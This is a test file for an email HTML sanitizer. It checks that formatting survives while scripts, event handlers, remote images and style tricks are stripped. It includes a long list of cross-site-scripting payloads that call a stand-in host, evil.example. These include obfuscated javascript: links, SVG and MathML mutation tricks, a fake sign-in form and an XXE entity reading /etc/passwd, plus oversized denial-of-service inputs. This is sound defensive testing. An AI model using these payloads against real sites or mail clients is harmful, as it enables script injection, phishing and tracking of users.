"""The HTML of strangers: what is left of it may be looked at, and nothing else."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from channels.email.safe_html import safe
from tests.seconds import seconds

OURS = {"logo@mail": "/desk/mail/7/images/1"}
PIXEL = "data:image/png;base64,iVBORw0KGgo="
TAGS_THAT_ACT = (
    "script, style, svg, math, iframe, frame, object, embed, applet, form, input, button, textarea, select,"
    " base, link, meta, video, audio, source, track, canvas, template, noscript, marquee, dialog"
)


def assert_harmless(shown: str) -> None:
    """As a browser would read it, by a parser that is not the one that cleaned it."""
    tree = LexborHTMLParser(f"<body>{shown}</body>")
    assert tree.css(TAGS_THAT_ACT) == []
    for one in tree.css("body *"):
        for name, value in one.attributes.items():
            said = (value or "").lower()
            assert not name.startswith("on"), name
            assert name not in {"background", "srcset", "ping", "poster", "action", "id", "class"}
            assert ":" not in name or name == "xml:lang"
            if name == "href":
                assert re.match(r"https?://|mailto:", said), said
                assert one.attributes["rel"] == "noopener noreferrer nofollow"
                assert one.attributes["target"] == "_blank"
            elif name == "src":
                assert one.tag == "img"
                assert said.startswith("data:image/") or value in OURS.values()
            elif name == "style":
                assert not re.search(r"url|\\|expression|@|position|behaviou?r|/\*|-moz-", said), (
                    said
                )


def test_the_words_and_their_shape_stay() -> None:
    html = (
        '<table border="1"><tr><td colspan="2" bgcolor="#eeeeee"><b>Hi</b> <font color="red" size="+1">'
        "there</font></td></tr></table><ul><li>one</li></ul><blockquote>quoted<br>twice</blockquote>"
        "<p style=\"color: rgb(1, 2, 3); font-family: 'Segoe UI', Arial; margin: 0 0 1em\">x</p>"
    )
    assert safe(html, {}) == (
        '<table border="1"><tbody><tr><td colspan="2" bgcolor="#eeeeee"><b>Hi</b>'
        ' <font color="red" size="+1">there</font></td></tr></tbody></table><ul><li>one</li></ul>'
        "<blockquote>quoted<br>twice</blockquote>"
        "<p style=\"color:rgb(1, 2, 3);font-family:'Segoe UI', Arial;margin:0 0 1em\">x</p>"
    )


def test_links_lead_out_and_tell_nobody() -> None:
    assert safe('<a href=" https://a.example/?x=1&amp;y=2 ">a</a>', {}) == (
        '<a href="https://a.example/?x=1&amp;y=2" target="_blank"'
        ' rel="noopener noreferrer nofollow">a</a>'
    )
    assert 'href="mailto:a@b.example"' in safe("<a href=MAILTO:a@b.example>a</a>", {}).replace(
        "MAILTO", "mailto"
    )


def test_pictures_are_those_that_came_with_the_mail() -> None:
    def source(given: str) -> str | None:
        image = LexborHTMLParser(safe(f'<img src="{given}" alt="a picture">', OURS)).css_first(
            "img"
        )
        assert image is not None
        assert image.attributes["alt"] == "a picture"
        return image.attributes.get("src")

    assert source("cid:logo@mail") == source("CID:logo%40mail") == OURS["logo@mail"]
    assert source(PIXEL) == PIXEL
    for elsewhere in (
        *("https://evil.example/p.gif", "//evil.example/p", "/desk/sign-out", "cid:unknown"),
        *("data:image/svg+xml;base64,AAAA", "data:text/html,x", "javascript:alert(1)", "file:///x"),
        "data:image/png;base64," + "A" * 300_000,
    ):
        assert source(elsewhere) is None, elsewhere[:40]


HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT/src=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<body onload=alert(1) background=//evil.example/x.png>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:x">x</a><a href="data:text/html,<script>x</script>">x</a>',
    '<a href="//evil.example">x</a><a href="/desk/sign-out">x</a><a href="#x" ping="//evil">x</a>',
    '<a href="https://x.example" onclick=alert(1) style="position:fixed;inset:0" target=_self>x</a>',
    '<svg onload=alert(1)><script>x</script><a xlink:href="javascript:x"><text>x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>x</script>'></foreignObject></svg>",
    '<svg><image href="https://evil.example/x.png"/><use href="//evil.example#x"/></svg>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=x&gt;'>",
    '<math href="javascript:x"><maction actiontype="statusline" xlink:href="javascript:x">x</maction>',
    "<style>@import url(//evil.example/x.css); body{background:url(//evil.example)}</style>",
    '<link rel=stylesheet href="//evil.example/x.css"><link rel=prefetch href="//evil.example">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="//evil.example/">',
    '<form action="//evil.example"><input name=password autofocus onfocus=x><button>Sign in</button>',
    '<iframe src="//evil.example"></iframe><frameset><frame src="//evil.example"></frameset>',
    '<object data="//evil.example"><embed src="//evil.example"></object><applet code=x></applet>',
    '<img srcset="//evil.example/x 2x" src="//evil.example/x" lowsrc="//evil.example/x" dynsrc=x>',
    '<picture><source srcset="//evil.example/x"><img src="//evil.example/x"></picture>',
    '<video poster="//evil.example/x" src=x><track src=x></video><audio src=x autoplay></audio>',
    '<table background="//evil.example/x"><tr><td background="//evil.example/x">x</td></tr></table>',
    '<div style="background:url(//evil.example/x)">x</div>',
    "<div style=\"background-color:u\\72l('//evil.example')\">x</div>",
    '<div style="color:red;/*;*/background:url(x);width:expression(alert(1))">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99">x</div>',
    '<div style="margin-top:-900px;text-indent:-9999px;margin:1px -5px">x</div>',
    '<div style="behavior:url(x.htc);-moz-binding:url(x)">x</div>',
    "<p style=\"font-family:'a;background:url(//evil.example)'\">x</p>",
    "<p style=\"list-style-image:url(//evil.example);content:'x';cursor:url(x)\">x</p>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>x</script></template><xmp><script>x</script></xmp>",
    '<div id="main" class="top" name="seen" contenteditable draggable="true" tabindex=1>x</div>',
    "<textarea></textarea><img src=x onerror=x></textarea><title><img src=x onerror=x></title>",
    "<!--[if mso]><v:imagedata src='//evil.example/x'/><![endif]--><o:p>x</o:p><?xml x?>",
    "<![CDATA[<script>x</script>]]><!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "<plaintext><script>x</script>",
]


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_runs_and_nothing_is_fetched(html: str) -> None:
    shown = safe(f"<p>before</p>{html}<p>after</p>", OURS)
    assert "<p>before</p>" in shown
    assert_harmless(shown)
    assert "evil.example" not in re.sub(r">[^<]*<", "><", shown)


@given(
    st.lists(st.sampled_from([*HOSTILE, "<p>", "</p>", "<td>", '"', "'", ">", "<!--", "-->", "\0"]))
)
def test_no_mixture_of_them_does_either(pieces: list[str]) -> None:
    assert_harmless(safe("".join(pieces), OURS))


def test_what_is_thrown_away_goes_with_its_words() -> None:
    assert safe("a<style>p{}</style>b<script>c</script><title>d</title>e", {}) == "abe"


def test_huge_tables_stay_bearable() -> None:
    assert safe('<table><tr><td colspan="999999999" width="99999999">x</td></tr></table>', {}) == (
        "<table><tbody><tr><td>x</td></tr></tbody></table>"
    )


LINK = '<tr><td><a href="https://x.example/?a=1&amp;b=2">x</a></td></tr>'


def test_five_thousand_links_are_shown() -> None:
    shown = safe(f"<table>{LINK * 5000}</table>", {})
    assert shown.count("nofollow") == 5000


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 100_000,
        "<div>" * 8_000,
        "<b><p>" * 4_000 + "x",
        "<font size=1><div>" * 20_000,
        "".join(f"<font color=#{n:06}>" for n in range(4_000)) + "<p>x" * 3_000,
        "&" * 2_000_000,
        "&amp;" * 99_999,
        "<" * 2_000_000,
        "<p " + " ".join(f"a{n}=1" for n in range(100_000)) + ">",
        "<p " + "/a" * 500_000 + ">",
        "x" * 2_000_000,
        "<!--" * 500_000,
        "<style>" * 7_000,
        ("<p style='" + "color:red;" * 150 + "'>x</p>") * 1_000,
        "<p style='color:" + "rgb(" * 450 + "'>",
        "<a href='https://" + "x" * 1_900_000 + "'>x</a>",
        "<img src='data:image/png;base64," + "A" * 1_900_000 + "'>",
    ],
)
def test_no_html_keeps_a_computer_busy(html: str) -> None:
    assert seconds(lambda: assert_harmless(safe(html, {}))) < 2
